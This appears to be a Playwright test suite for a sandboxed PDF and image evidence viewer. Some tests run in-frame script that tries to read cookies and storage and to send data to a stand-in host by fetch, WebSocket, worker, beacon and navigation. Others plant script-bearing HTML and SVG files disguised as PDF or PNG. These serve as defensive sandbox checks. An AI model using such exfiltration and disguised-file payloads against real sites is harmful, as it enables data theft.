import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import type { Frame, Page } from "@playwright/test";
import { listEntries } from "@/db/queries/audit";
import { isViewable } from "@/lib/domain/assessment/viewable";
import { assessmentStream } from "@/lib/domain/audit";
import { contextAs, givenFile } from "@/lib/server/given";
import { hostilePdf, pdfOf, pngOf } from "./documents";
import { expect, shot, test as base } from "./fixtures";

type File = { name: string; mediaType?: string; content: Uint8Array };
type Look = { assessmentId: string; evidenceId: string; address: string };

const test = base.extend<{
  look: (file: File) => Promise<Look>;
  elsewhere: { url: string; asked: string[] };
}>({
  /** Signs an officer in, and opens the page of a thing that has this file. */
  look: async ({ page, db, signIn, assessment }, use) => {
    await use(async ({ mediaType = "application/pdf", ...file }) => {
      const person = await signIn("officer");
      const assessmentId = await assessment(person);
      const evidenceId = await givenFile(contextAs(db, person), assessmentId, { ...file, mediaType });
      await page.goto(`/assessments/${assessmentId}/evidence/${evidenceId}`);
      if (isViewable({ mediaType })) await page.getByRole("button", { name: "Look at it here" }).click();
      const address = `/api/v1/assessments/${assessmentId}/evidence/${evidenceId}/view`;
      return { assessmentId, evidenceId, address };
    });
  },
  /** A site that nobody should come to. */
  elsewhere: async ({}, use) => {
    const asked: string[] = [];
    const server = createServer((request, response) => {
      asked.push(request.url ?? "");
      response.end();
    }).listen(0, "127.0.0.1");
    await new Promise((listening) => server.once("listening", listening));
    await use({ url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, asked });
    server.close();
  },
});

const inside = (page: Page) => page.frameLocator("iframe");

/** The frame itself, as somebody who got hold of it would have it. */
async function frameOf(page: Page): Promise<Frame> {
  await expect(page.locator("iframe")).toBeVisible();
  const frame = page.frames().find((one) => one.url().endsWith("/api/viewer/frame"));
  if (!frame) throw new Error("There is no frame.");
  return frame;
}

test("a PDF is read page by page, from the buttons and from the keyboard", async ({
  page,
  look,
  db,
}, info) => {
  const lines = Array.from({ length: 60 }, (_, index) => `Clause ${index + 1} of the contract`);
  const { assessmentId, evidenceId } = await look({ name: "contract.pdf", content: await pdfOf(lines) });
  await expect(inside(page).getByText("Clause 1 of the contract")).toBeVisible();
  await expect(page.getByText("of 60")).toBeVisible();
  await shot(page, info, "a PDF");

  const number = page.getByLabel("Page", { exact: true });
  await page.getByRole("button", { name: "Next page" }).click();
  await expect(number).toHaveValue("2");
  await expect(inside(page).getByText("Clause 2 of the contract")).toBeVisible();
  await page.keyboard.press("PageDown");
  await expect(number).toHaveValue("3");
  await page.keyboard.press("PageUp");
  await expect(number).toHaveValue("2");
  await number.fill("59");
  await number.press("Enter");
  await expect(inside(page).getByText("Clause 59 of the contract")).toBeVisible();
  await expect(number).toHaveValue("59");
  // What is far from where one looks holds no picture and no words.
  await expect(inside(page).getByText("Clause 2 of the contract")).toHaveCount(0);
  expect(await inside(page).locator("canvas").count()).toBeLessThan(8);

  const before = await page.getByText(/^\d+%$/).textContent();
  await page.getByRole("button", { name: "Larger" }).click();
  await expect(page.getByText(/^\d+%$/)).not.toHaveText(before ?? "");
  await expect(number).toHaveValue("59");
  await expect(inside(page).getByText("Clause 59 of the contract")).toBeVisible();
  await page.keyboard.press("-");
  await page.keyboard.press("0");
  await expect(page.getByText(/^\d+%$/)).toHaveText(before ?? "");

  const of = { stream: assessmentStream(assessmentId), objectId: evidenceId, limit: 99, offset: 0 };
  const entries = await listEntries(db.read, of);
  expect(entries.filter(({ action }) => action === "evidence.viewed")).toHaveLength(1);
});

test("a picture is shown, and made larger and smaller", async ({ page, look }, info) => {
  await look({ name: "screen.png", mediaType: "image/png", content: pngOf(1_600, 400, [13, 90, 102]) });
  const picture = inside(page).getByRole("img", { name: "screen.png" });
  await expect(picture).toBeVisible();
  const width = async () => (await picture.boundingBox())?.width ?? 0;
  const fitted = await width();
  await page.getByRole("button", { name: "Larger" }).click();
  await expect.poll(width).toBeGreaterThan(fitted);
  await page.getByRole("button", { name: "Fit the width" }).click();
  await expect.poll(width).toBe(fitted);
  await shot(page, info, "a picture");
});

test("a PDF that acts does nothing but be seen", async ({ page, look, elsewhere, context }) => {
  const noticed: string[] = [];
  context.on("page", () => noticed.push("a window"));
  page.on("dialog", (dialog) => {
    noticed.push(`a dialog: ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.on("download", () => noticed.push("a download"));
  const requests: string[] = [];
  context.on("request", (request) => requests.push(request.url()));
  const { address } = await look({ name: "hostile.pdf", content: hostilePdf(elsewhere.url) });
  const words = inside(page).getByText("A contract like any other");
  await expect(words).toBeVisible();
  const [there, { origin }] = [page.url(), new URL(page.url())];
  // Everywhere on the page lies a link, a field or a button.
  await words.click();
  await inside(page)
    .locator(".page")
    .click({ position: { x: 120, y: 250 } });
  // By keyboard nothing of it is reached: from the page around it, Tab could lead to a link of ours.
  const reached = inside(page)
    .locator(".page")
    .locator("a, area, button, input, select, textarea, [tabindex]");
  await expect(reached).toHaveCount(0);
  await inside(page).locator("body").press("Enter");
  await page.getByRole("button", { name: "Larger" }).click();
  await expect(words).toBeVisible();

  expect(noticed).toEqual([]);
  expect(elsewhere.asked).toEqual([]);
  expect(page.url()).toBe(there);
  const paths = requests.filter((url) => !url.startsWith("blob:")).map((url) => url.replace(origin, ""));
  expect(paths).toContain(address);
  expect(
    paths.filter(
      (path) => !/^\/(assessments\/|_next\/static\/|icon\.svg|api\/v1\/|api\/viewer\/)/.test(path),
    ),
  ).toEqual([]);
});

test("whoever gets hold of the frame holds nothing else", async ({ page, look, elsewhere, context }) => {
  await look({ name: "contract.pdf", content: await pdfOf(["Clause 1"]) });
  await expect(inside(page).getByText("Clause 1")).toBeVisible();
  const frame = await frameOf(page);
  let windows = 0;
  context.on("page", () => (windows += 1));
  const tries = await frame.evaluate(async (evil) => {
    const outcome = async (work: () => unknown) => {
      try {
        return String(await work());
      } catch (error) {
        return error instanceof Error || error instanceof DOMException ? `refused: ${error.name}` : "refused";
      }
    };
    const loaded = (make: () => HTMLElement) =>
      new Promise((done) => {
        const element = make();
        element.onload = () => done("loaded");
        element.onerror = () => done("blocked");
        document.body.append(element);
      });
    const image = () => Object.assign(new Image(), { src: `${evil}/image` });
    const script = (src: string) => () => Object.assign(document.createElement("script"), { src });
    const inline = document.createElement("script");
    inline.textContent = "globalThis.ran = true";
    document.body.append(inline);
    return {
      origin,
      cookie: await outcome(() => document.cookie),
      storage: await outcome(() => localStorage.length),
      database: await outcome(() => indexedDB.open("x")),
      parent: await outcome(() => parent.document.title),
      top: await outcome(() => top?.location.href),
      leave: await outcome(() => ((top as Window).location.href = `${evil}/top`)),
      api: await outcome(() => fetch("/api/v1/account")),
      network: await outcome(() => fetch(`${evil}/fetch`, { mode: "no-cors" })),
      socket: await outcome(
        () =>
          new Promise((done) => {
            const socket = new WebSocket(evil.replace("http", "ws"));
            socket.onerror = () => done("blocked");
            socket.onopen = () => done("open");
          }),
      ),
      image: await outcome(() => loaded(image)),
      script: await outcome(() => loaded(script(`${evil}/script.js`))),
      evaluated: await outcome(() => (0, eval)("1")),
      inline: String("ran" in globalThis),
      worker: await outcome(
        () =>
          new Promise((done) => {
            const line = `fetch("${evil}/worker", { mode: "no-cors" }).then(() => postMessage("read"), ({ name }) => postMessage(name))`;
            const worker = new Worker(URL.createObjectURL(new Blob([line], { type: "text/javascript" })));
            worker.onmessage = ({ data }) => done(data);
          }),
      ),
      opened: window.open(`${evil}/window`) === null ? "nothing" : "a window",
      beacon: await outcome(() => navigator.sendBeacon(`${evil}/beacon`)),
    };
  }, elsewhere.url);
  expect(tries).toMatchObject({
    origin: "null",
    cookie: "refused: SecurityError",
    storage: "refused: SecurityError",
    database: "refused: SecurityError",
    parent: "refused: SecurityError",
    top: "refused: SecurityError",
    leave: "refused: SecurityError",
    api: "refused: TypeError",
    network: "refused: TypeError",
    image: "blocked",
    script: "blocked",
    evaluated: "refused: EvalError",
    inline: "false",
    worker: "TypeError",
    opened: "nothing",
  });
  expect(tries.socket).toMatch(/^(blocked|refused)/);
  // Nor may it go elsewhere with what it was given: the page around it does not let it.
  await frame.evaluate((evil) => {
    location.href = `${evil}/frame?what=it-knows`;
  }, elsewhere.url);
  await expect.poll(() => page.frames().map((one) => one.url().includes("it-knows"))).toEqual([false, false]);
  expect(windows).toBe(0);
  expect(elsewhere.asked).toEqual([]);
});

test("a disguise is not worn: what is no PDF and no picture is not shown", async ({ page, look }) => {
  const html = Buffer.from(
    "<!doctype html><script>parent.postMessage('ran','*')</script><h1>Sign in again</h1>",
  );
  const svg = Buffer.from(
    `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><script>alert(1)</script><text>Sign in</text></svg>`,
  );
  for (const file of [
    { name: "a.pdf", content: html },
    { name: "a.png", mediaType: "image/png", content: html },
    { name: "b.png", mediaType: "image/png", content: svg },
    { name: "cut.pdf", content: (await pdfOf(["Clause 1"])).subarray(0, 40) },
  ]) {
    await look(file);
    await expect(page.getByRole("region", { name: /^The file of/ }).getByRole("alert")).toContainText(
      "This file cannot be shown here. Download it",
    );
    await expect(page.locator("iframe")).toHaveCount(0);
    expect(page.frames()).toHaveLength(1);
  }
  await look({ name: "page.html", mediaType: "text/html", content: html });
  await expect(page.getByRole("link", { name: "Download", exact: true })).toBeVisible();
  await expect(page.getByRole("button", { name: "Look at it here" })).toHaveCount(0);
  await expect(page.locator("iframe")).toHaveCount(0);
});

test("a PDF behind a password is told in words", async ({ page, look }) => {
  await look({ name: "locked.pdf", content: await pdfOf(["Clause 1"], { userPassword: "secret" }) });
  await expect(page.getByRole("region", { name: /^The file of/ }).getByRole("alert")).toContainText(
    "This PDF asks for a password.",
  );
});

test("the address of the bytes shows nothing by itself, and neither does the frame", async ({
  page,
  look,
}) => {
  const { address } = await look({ name: "contract.pdf", content: await pdfOf(["Clause 1"]) });
  await expect(inside(page).getByText("Clause 1")).toBeVisible();
  const downloading = page.waitForEvent("download");
  await expect(page.goto(address)).rejects.toThrow(/Download is starting|ERR_ABORTED/);
  expect((await downloading).suggestedFilename()).toBe("contract.pdf");
  await page.goto("/api/viewer/frame");
  await expect(page.locator("main")).toBeEmpty();
  expect(await page.evaluate(() => origin)).toBe("null");
});

test("loading can be given up and taken up again", async ({ page, look }) => {
  let held = true;
  let release: () => void = () => undefined;
  const released = new Promise<void>((done) => (release = done));
  await page.route("**/view", async (route) => {
    if (held) await released;
    await route.continue().catch(() => undefined);
  });
  await look({ name: "contract.pdf", content: await pdfOf(["Clause 1"]) });
  await page.getByRole("button", { name: "Cancel" }).click();
  await expect(page.getByText("Not loaded.")).toBeVisible();
  held = false;
  release();
  await page.getByRole("button", { name: "Load it" }).click();
  await expect(inside(page).getByText("Clause 1")).toBeVisible();
});
